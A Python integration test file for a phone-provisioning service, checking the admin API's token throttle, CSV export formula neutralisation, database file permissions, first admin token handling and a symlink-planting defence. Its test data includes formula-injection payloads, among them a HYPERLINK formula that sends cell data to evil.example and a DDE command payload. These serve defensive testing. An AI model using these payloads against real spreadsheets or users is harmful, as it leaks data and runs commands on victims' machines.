"""Issue 12, finding 9 (the admin side), attacked over real sockets and a real `provisiond serve`.

- The token throttle: someone else's failed tokens from the same address (every local client
  is 127.0.0.1) never refuse a valid token; guesses from that address stay refused (429), and a
  malformed guess costs no database look-up.
- CSV export: a name a spreadsheet would run as a formula is written with a leading quote;
  the CSV import removes it again, so export -> import keeps every value; JSON is verbatim.
- File modes outside systemd (umask 022): data dir 0700; database, -wal, -shm 0600, also
  narrowed on a restart after a crash left them readable.
- The first admin token is written to <data_dir>/first-admin-token (0600); a non-terminal
  stdout (the journal under systemd) only says where; a terminal also shows the token.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import pty
import secrets
import select
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import aiohttp
from aiohttp import web
from sqlalchemy import event

from provisiond.frontends.admin_api import create_admin_app
from provisiond.frontends.admin_http import THROTTLE
from provisiond.services import Services
from provisiond.services.commands import DeviceCreate, TokenCreate, UserCreate
from provisiond.services.fleet_rows import csv_cell, csv_value
from provisiond.storage.database import Database
from tests.integration.api_fixtures import Api
from tests.integration.test_fleet import fresh  # noqa: F401 (a fixture: a second, empty database)
from tests.serve_process import REPO, ServeProcess, free_port, serve, stop

# -- the token throttle -----------------------------------------------------------------------


@contextlib.asynccontextmanager
async def served_admin(services: Services) -> AsyncIterator[tuple[str, web.Application]]:
    """The admin app on a real loopback listener: its base URL and the app."""
    app = create_admin_app(services)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    try:
        yield f"http://127.0.0.1:{port}/api/v1", app
    finally:
        await runner.cleanup()


@contextlib.asynccontextmanager
async def client_from(address: str) -> AsyncIterator[aiohttp.ClientSession]:
    """A client whose connections leave from `address` (any of 127.0.0.0/8)."""
    connector = aiohttp.TCPConnector(local_addr=(address, 0), force_close=True)
    async with aiohttp.ClientSession(connector=connector) as session:
        yield session


async def status(
    session: aiohttp.ClientSession, url: str, token: str | None, body: Any = None
) -> int:
    """One request: GET, or POST with a JSON body; the bearer token when given."""
    headers = {} if token is None else {"Authorization": f"Bearer {token}"}
    method = "GET" if body is None else "POST"
    async with session.request(method, url, json=body, headers=headers) as response:
        await response.read()
        return response.status


def shaped_guess() -> str:
    """A wrong token of the real shape ("pvd_" + 43 base64url characters)."""
    return "pvd_" + secrets.token_urlsafe(32)


@contextlib.contextmanager
def token_lookups(db: Database) -> Iterator[list[str]]:
    """Every SQL statement that reads the token table while the block runs."""
    seen: list[str] = []

    def note(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if "api_tokens" in statement:
            seen.append(statement)

    event.listen(db.engine.sync_engine, "before_cursor_execute", note)
    try:
        yield seen
    finally:
        event.remove(db.engine.sync_engine, "before_cursor_execute", note)


async def test_valid_token_is_never_throttled_by_others_failures(
    services: Services, db: Database
) -> None:
    admin = await services.tokens.create(TokenCreate(name="admin"), "test")
    reader = await services.tokens.create(TokenCreate(name="reader", scope="read"), "test")
    async with (
        served_admin(services) as (api, app),
        client_from("127.0.0.1") as local,
        client_from("127.0.0.2") as elsewhere,
    ):
        users = f"{api}/users"
        # Someone else's script on 127.0.0.1 fails ten times: the address is throttled.
        for attempt in range(10):
            guess = shaped_guess() if attempt % 2 else f"pvd_stale{attempt}"
            assert await status(local, users, guess) == 401
        async with local.get(users, headers={"Authorization": f"Bearer {shaped_guess()}"}) as r:
            assert r.status == 429
            assert int(r.headers["Retry-After"]) > 0
            assert (await r.json())["error"] == "throttled"

        # The admin on the same address is not refused: reads, writes, the read-only token.
        assert await status(local, users, admin) == 200
        body = {"username": "mrossi", "display_name": "Mario Rossi", "main_extension": "200"}
        assert await status(local, users, admin, body) == 201
        assert await status(local, users, reader) == 200
        assert await status(local, users, reader, body) == 403  # read-only, not throttled

        # Guesses from the throttled address stay refused, whatever their shape.
        for guess in (shaped_guess(), "pvd_short", "x" * 200, ""):
            assert await status(local, users, guess) == 429, guess
        assert await status(local, users, None) == 429
        # Another address is not throttled (401, then the admin's 200).
        assert await status(elsewhere, users, shaped_guess()) == 401
        assert await status(elsewhere, users, admin) == 200

        # A storm: 200 guesses (half malformed) interleaved with 20 admin requests.
        refused = passed = 0
        started = time.perf_counter()
        with token_lookups(db) as lookups:
            for n in range(200):
                guess = f"pvd_{n}" if n % 2 else shaped_guess()
                refused += await status(local, users, guess) == 429
                if n % 10 == 0:
                    passed += await status(local, users, admin) == 200
        elapsed = time.perf_counter() - started
        assert (refused, passed) == (200, 20)
        # Malformed guesses never reach the database: 100 shaped guesses + 20 valid tokens.
        assert len(lookups) == 120, len(lookups)
        ban = app[THROTTLE].bans()[0]
        assert ban.target == "127.0.0.1"
        assert ban.hits >= 200 + 5
        print(
            f"throttle storm: 220 requests in {elapsed:.2f} s ({elapsed / 220 * 1e3:.1f} ms each)"
        )


# -- CSV export: formulas ---------------------------------------------------------------------

TRICKY = [
    '=HYPERLINK("http://evil.example/?d="&A1,"details")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'=1+1",  # already quoted by a person: survives as typed
    "'plain",
    "O'Brien",
    "Mario = Rossi",
]


def test_cell_quoting_is_reversible() -> None:
    values = [*TRICKY, "\t=1", "\r-1", "'\t1", " =1", "'", "''", "", "a-b", "1-2"]
    for value in values:
        cell = csv_cell(value)
        assert csv_value(cell) == value, value
        assert not cell[:1] or cell[0] not in "=+-@\t\r", cell
    assert csv_cell("=1") == "'=1"
    assert csv_cell("a=1") == "a=1"
    assert csv_value("'plain") == "'plain"


async def test_csv_export_neutralises_formulas_and_round_trips(
    api: Api,
    services: Services,
    fresh: Services,  # noqa: F811 (the fixture imported above)
) -> None:
    for n, name in enumerate(TRICKY):
        user = await services.users.create(
            UserCreate(username=f"user{n}", display_name=name, main_extension=f"{300 + n}"), "t"
        )
        await services.devices.create(
            DeviceCreate(
                extension=f"{300 + n}",
                model="yealink-t46s",
                mac=f"0015650003{n:02x}",
                user_id=user["id"],
                label=name[:64],
            ),
            "t",
        )
    reply = await api.call("GET", "/api/v1/export", token=api.read_token)
    assert reply.status == 200
    exported = reply.text
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", f"a formula reaches the spreadsheet: {cell}"
    assert "'=HYPERLINK(" in exported
    assert "O'Brien" in cells  # not a formula: untouched

    # JSON is verbatim.
    rows = await api.ok("GET", "/api/v1/export?format=json")
    assert {r["display_name"] for r in rows} == set(TRICKY)
    assert {r["label"] for r in rows} == {name[:64] for name in TRICKY}

    # The CSV re-imports to the very same values (over the API, into an empty database).
    await fresh.fleet.import_csv(exported, "t")
    assert await fresh.fleet.export_rows() == await services.fleet.export_rows()
    assert await fresh.fleet.export_csv() == exported


async def test_hand_written_quote_is_read_as_a_spreadsheet_shows_it(services: Services) -> None:
    text = (
        "mac,model,extension,username,display_name,primary,label\n"
        "001565000401,yealink-t46s,401,anna,'=Anna,1,'plain\n"
        "001565000402,yealink-t46s,402,,,,'-spare\n"
    )
    await services.fleet.import_csv(text, "t")
    rows = {r["extension"]: r for r in await services.fleet.export_rows()}
    assert (rows["401"]["display_name"], rows["401"]["label"]) == ("=Anna", "'plain")
    assert rows["402"]["label"] == "-spare"


# -- provisiond serve: file modes and the first admin token -----------------------------------


def mode(path: Path) -> int:
    """The permission bits of `path`."""
    return stat.S_IMODE(path.stat().st_mode)


@contextlib.contextmanager
def umask(value: int) -> Iterator[None]:
    """Run the block (and the processes it starts) under `value`."""
    old = os.umask(value)
    try:
        yield
    finally:
        os.umask(old)


def api_get(server: ServeProcess, path: str, token: str) -> Any:
    """GET on the served admin API."""
    request = urllib.request.Request(f"{server.api}{path}")
    request.add_header("Authorization", f"Bearer {token}")
    with urllib.request.urlopen(request, timeout=20) as response:
        return json.loads(response.read())


def wait_for(path: Path, timeout: float = 20.0) -> str:
    """The text of `path` once it exists and is not empty."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and (text := path.read_text(encoding="utf-8")):
            return text
        time.sleep(0.05)
    raise AssertionError(f"{path} never appeared")


def test_serve_keeps_database_and_token_private(tmp_path: Path) -> None:
    data = tmp_path / "var"
    database = data / "provisiond.db"
    token_file = data / "first-admin-token"
    with umask(0o022), serve(data) as server:
        token = wait_for(token_file).strip()
        assert token.startswith("pvd_")
        assert api_get(server, "/users", token)["items"] == []  # the file's token works
        assert mode(data) == 0o700
        assert mode(token_file) == 0o600
        for name in ("provisiond.db", "provisiond.db-wal", "provisiond.db-shm"):
            assert mode(data / name) == 0o600, name
        log = server.log_path.read_text(encoding="utf-8")
        assert token not in log, "the first token went to stdout (the journal under systemd)"
        assert str(token_file.resolve()) in log
        # A crash leaves -wal and -shm behind; an older version made everything readable.
        server.process.send_signal(signal.SIGKILL)
        server.process.wait(timeout=10)
    assert (data / "provisiond.db-wal").exists()
    for path in (database, data / "provisiond.db-wal", data / "provisiond.db-shm"):
        if path.exists():
            path.chmod(0o644)
    data.chmod(0o755)
    with umask(0o022), serve(data) as server:
        assert api_get(server, "/users", token)["items"] == []
        assert mode(data) == 0o700
        for name in ("provisiond.db", "provisiond.db-wal", "provisiond.db-shm"):
            assert mode(data / name) == 0o600, name
        assert token_file.read_text(encoding="utf-8").strip() == token  # not made again
        assert "first admin API token" not in server.log_path.read_text(encoding="utf-8")


def test_first_token_shown_on_a_terminal(tmp_path: Path) -> None:
    """`make run` in a terminal: the token is printed there too (and is in the file)."""
    data = tmp_path / "var"
    data.mkdir()
    env = {
        **os.environ,
        "PROVISIOND_DATA_DIR": str(data),
        "PROVISIOND_PHONE_HTTP": f"127.0.0.1:{free_port()}",
        "PROVISIOND_TFTP": f"127.0.0.1:{free_port(socket.SOCK_DGRAM)}",
        "PROVISIOND_ADMIN_HTTP": f"127.0.0.1:{free_port()}",
    }
    env.pop("PROVISIOND_DATABASE_URL", None)
    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "provisiond.cli", "serve"],
        cwd=REPO,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    shown = b""
    try:
        deadline = time.monotonic() + 30
        while b"serving" not in shown and time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.5)
            if ready:
                with contextlib.suppress(OSError):
                    shown += os.read(master, 65536)
            if process.poll() is not None:
                break
    finally:
        stop(process)
        os.close(master)
    token = (data / "first-admin-token").read_text(encoding="utf-8").strip()
    text = shown.decode("utf-8", "replace")
    assert f"(shown once): {token}" in text, text
    assert str((data / "first-admin-token").resolve()) in text


def test_first_token_file_is_not_a_symlink_target(tmp_path: Path) -> None:
    """The token file is replaced atomically: a symlink planted at its name is not followed."""
    data = tmp_path / "var"
    data.mkdir()
    victim = tmp_path / "elsewhere"
    victim.write_text("untouched\n", encoding="utf-8")
    planted = data / "first-admin-token"
    planted.symlink_to(victim)
    with umask(0o022), serve(data) as server:
        deadline = time.monotonic() + 20
        while planted.is_symlink() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not planted.is_symlink()
        assert mode(planted) == 0o600
        token = planted.read_text(encoding="utf-8").strip()
        assert api_get(server, "/users", token)["items"] == []
    assert victim.read_text(encoding="utf-8") == "untouched\n"
